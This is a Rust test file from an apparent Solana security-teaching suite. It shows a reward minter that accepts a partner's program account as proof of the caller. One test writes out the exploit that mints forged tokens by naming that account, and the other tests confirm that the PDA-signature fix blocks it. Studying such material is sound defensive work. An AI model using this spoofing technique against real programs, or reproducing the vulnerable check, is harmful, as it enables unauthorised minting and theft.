@@ -0,0 +1,260 @@
+//! Tests for the Partner Mint Bypass vulnerability
+//!
+//! Demonstrates:
+//! - Vulnerable: The minter takes the partner's program account as proof
+//!   the partner is calling, so the attacker names it, from their own
+//!   program or straight from a transaction, and mints past the partner's
+//!   one-reward limit
+//! - Secure: The minter requires the partner's PDA signature, which
+//!   neither a top-level transaction nor another program can give
+//!
+//! Three programs are deployed: the minter, the partner, and the
+//! attacker's `malicious_caller` fixture.
+
+#[cfg(test)]
+mod tests {
+    use litesvm::types::TransactionResult;
+    use security_tests::assert_err;
+    use security_tests::common;
+    use security_tests::idl::Idl;
+    use security_tests::scenario::Scenario;
+    use security_tests::sdk::{
+        AccountMeta, Instruction, Keypair, Message, Pubkey, Signer, Transaction, LAMPORTS_PER_SOL,
+    };
+
+    // Every keypair in this suite derives from this seed
+    const SEED: u64 = 1;
+    /// What the partner mints for each user's one claim
+    const REWARD: u64 = 100;
+    /// What the attacker mints for themselves
+    const FORGED: u64 = 1_000_000;
+
+    fn minter() -> Pubkey {
+        common::load_program_id("partner_mint")
+    }
+
+    fn partner() -> Pubkey {
+        common::load_program_id("partner_rewards")
+    }
+
+    fn fixture() -> Pubkey {
+        common::load_program_id("malicious_caller")
+    }
+
+    fn config() -> Pubkey {
+        common::find_pda(&[b"config"], &minter()).0
+    }
+
+    fn balance(owner: &Pubkey) -> Pubkey {
+        common::find_pda(&[b"balance", owner.as_ref()], &minter()).0
+    }
+
+    /// The mint authority PDA of `program`; only the partner's is accepted.
+    fn mint_authority(program: &Pubkey) -> Pubkey {
+        common::find_pda(&[b"mint_authority"], program).0
+    }
+
+    /// The three programs, a minter that trusts the partner, and a user and
+    /// the attacker with open balances.
+    fn setup(name: &str) -> (Scenario, Keypair, Keypair) {
+        let mut svm = Scenario::new(name, SEED);
+        let authority = svm.keypair("authority");
+        let user = svm.keypair("user");
+        let attacker = svm.keypair("attacker");
+        for signer in [&authority, &user, &attacker] {
+            svm.airdrop(&signer.pubkey(), 10 * LAMPORTS_PER_SOL)
+                .expect("Airdrop failed");
+        }
+        for program in ["partner_mint", "partner_rewards", "malicious_caller"] {
+            svm.add_program(program);
+        }
+
+        let ix = Idl::load("partner_mint")
+            .ix("initialize")
+            .arg("partner_program", partner())
+            .account("authority", authority.pubkey())
+            .account("config", config())
+            .build();
+        send(&mut svm, ix, &[&authority]).expect("Initialize failed");
+        for owner in [&user, &attacker] {
+            let ix = Idl::load("partner_mint")
+                .ix("open_balance")
+                .account("owner", owner.pubkey())
+                .account("balance", balance(&owner.pubkey()))
+                .build();
+            send(&mut svm, ix, &[owner]).expect("Open balance failed");
+        }
+        (svm, user, attacker)
+    }
+
+    #[allow(clippy::result_large_err)]
+    fn send(svm: &mut Scenario, ix: Instruction, signers: &[&Keypair]) -> TransactionResult {
+        let payer = signers.first().expect("a transaction needs a fee payer");
+        let msg = Message::new(&[ix], Some(&payer.pubkey()));
+        let tx = Transaction::new(signers, msg, svm.latest_blockhash());
+        svm.send_transaction(tx)
+    }
+
+    /// The user's claim through the partner; `name` picks which mint it
+    /// calls.
+    fn claim_reward(name: &str, user: &Pubkey) -> Instruction {
+        let idl = Idl::load("partner_rewards");
+        let ix = idl
+            .ix(name)
+            .account("user", *user)
+            .account(
+                "receipt",
+                common::find_pda(&[b"receipt", user.as_ref()], &partner()).0,
+            )
+            .account("config", config())
+            .account("balance", balance(user))
+            .account("minter_program", minter());
+        match name {
+            "vulnerable_claim_reward" => ix
+                .account("partner_program", partner())
+                .account("cluster", common::cluster_record(&minter())),
+            _ => ix.account("mint_authority", mint_authority(&partner())),
+        }
+        .build()
+    }
+
+    /// One of the fixture's attacks, minting [`FORGED`] to the attacker.
+    fn attack(name: &str, attacker: &Pubkey) -> Instruction {
+        let idl = Idl::load("malicious_caller");
+        let ix = idl
+            .ix(name)
+            .arg("amount", FORGED)
+            .account("attacker", *attacker)
+            .account("config", config())
+            .account("balance", balance(attacker))
+            .account("minter_program", minter());
+        match name {
+            "spoof_partner" => ix
+                .account("partner_program", partner())
+                .account("cluster", common::cluster_record(&minter())),
+            "sign_as_itself" => ix.account("mint_authority", mint_authority(&fixture())),
+            _ => ix.account("partner_authority", mint_authority(&partner())),
+        }
+        .build()
+    }
+
+    /// Tokens `owner` holds, at bytes 40..48 of their balance.
+    fn tokens(svm: &Scenario, owner: &Pubkey) -> u64 {
+        let data = svm.get_account(&balance(owner)).unwrap().data;
+        u64::from_le_bytes(data[40..48].try_into().unwrap())
+    }
+
+    /// The minter's supply, at bytes 72..80 of its config.
+    fn supply(svm: &Scenario) -> u64 {
+        let data = svm.get_account(&config()).unwrap().data;
+        u64::from_le_bytes(data[72..80].try_into().unwrap())
+    }
+
+    #[test]
+    fn test_vulnerable_mints_for_anyone_naming_the_partner() {
+        // SCENARIO: The partner mints one reward per user, passing its own
+        // program account as the minter asks
+        // ATTACK: Pass the partner's program account too, first from the
+        // attacker's program and then straight from a transaction
+        // EXPECTED: Vulnerable version mints whatever the attacker asks,
+        // both times (EXPLOIT WORKS)
+
+        let (mut svm, user, attacker) =
+            setup("partner_mint/vulnerable_mints_for_anyone_naming_the_partner");
+
+        // The partner's own call, as intended
+        let ix = claim_reward("vulnerable_claim_reward", &user.pubkey());
+        let result = send(&mut svm, ix, &[&user]);
+        assert!(result.is_ok(), "{:?}", result);
+        assert_eq!(tokens(&svm, &user.pubkey()), REWARD);
+
+        // Step 1: The attacker's program names the partner as the caller
+        let ix = attack("spoof_partner", &attacker.pubkey());
+        let (result, diff) = svm.diff(|svm| send(svm, ix, &[&attacker]));
+        assert!(result.is_ok(), "{:?}", result);
+        diff.with_idl(&Idl::load("partner_mint"))
+            .expect_only_changed([config(), balance(&attacker.pubkey()), attacker.pubkey()]);
+        assert_eq!(tokens(&svm, &attacker.pubkey()), FORGED);
+
+        // Step 2: No program needed; the account is only an argument
+        let ix = Idl::load("partner_mint")
+            .ix("vulnerable_mint")
+            .arg("amount", FORGED)
+            .account("config", config())
+            .account("caller_program", partner())
+            .account("balance", balance(&attacker.pubkey()))
+            .build();
+        let result = send(&mut svm, ix, &[&attacker]);
+        assert!(result.is_ok(), "{:?}", result);
+
+        assert_eq!(tokens(&svm, &attacker.pubkey()), 2 * FORGED);
+        assert_eq!(supply(&svm), REWARD + 2 * FORGED);
+    }
+
+    #[test]
+    fn test_secure_rejects_a_caller_signing_with_its_own_pda() {
+        // SCENARIO: The attacker's program derives a mint authority at the
+        // partner's seeds, under its own id, and signs with it
+        // EXPECTED: Secure version REJECTS it, since the PDA isn't the
+        // partner's (FIX WORKS)
+
+        let (mut svm, _, attacker) =
+            setup("partner_mint/secure_rejects_a_caller_signing_with_its_own_pda");
+
+        let ix = attack("sign_as_itself", &attacker.pubkey());
+        assert_err!(send(&mut svm, ix, &[&attacker]), ErrorCode::ConstraintSeeds);
+        assert_eq!(tokens(&svm, &attacker.pubkey()), 0);
+    }
+
+    #[test]
+    fn test_secure_rejects_a_caller_forwarding_the_partner_pda() {
+        // SCENARIO: The attacker passes the partner's own PDA, which they
+        // can't sign for
+        // EXPECTED: Secure version REJECTS it, from the attacker's program
+        // and from a transaction (FIX WORKS)
+
+        let (mut svm, _, attacker) =
+            setup("partner_mint/secure_rejects_a_caller_forwarding_the_partner_pda");
+
+        // Marking it a signer in a CPI, unsigned, is refused by the runtime
+        let ix = attack("forward_partner_authority", &attacker.pubkey());
+        assert_err!(
+            send(&mut svm, ix, &[&attacker]),
+            InstructionError::PrivilegeEscalation
+        );
+
+        // And a transaction can only pass it unsigned
+        let ix = Idl::load("partner_mint")
+            .ix("secure_mint")
+            .arg("amount", FORGED)
+            .account("config", config())
+            .account_meta(
+                "partner_authority",
+                AccountMeta::new_readonly(mint_authority(&partner()), false),
+            )
+            .account("balance", balance(&attacker.pubkey()))
+            .build();
+        assert_err!(
+            send(&mut svm, ix, &[&attacker]),
+            ErrorCode::AccountNotSigner
+        );
+        assert_eq!(tokens(&svm, &attacker.pubkey()), 0);
+    }
+
+    #[test]
+    fn test_secure_mints_through_the_partner_once() {
+        let (mut svm, user, _) = setup("partner_mint/secure_mints_through_the_partner_once");
+
+        let ix = claim_reward("secure_claim_reward", &user.pubkey());
+        let result = send(&mut svm, ix, &[&user]);
+        assert!(result.is_ok(), "{:?}", result);
+        assert_eq!(tokens(&svm, &user.pubkey()), REWARD);
+        assert_eq!(supply(&svm), REWARD);
+
+        // The partner's limit holds: the receipt already exists
+        svm.expire_blockhash();
+        let ix = claim_reward("secure_claim_reward", &user.pubkey());
+        assert_err!(send(&mut svm, ix, &[&user]), InstructionError::Custom(0));
+        assert_eq!(tokens(&svm, &user.pubkey()), REWARD);
+    }
+}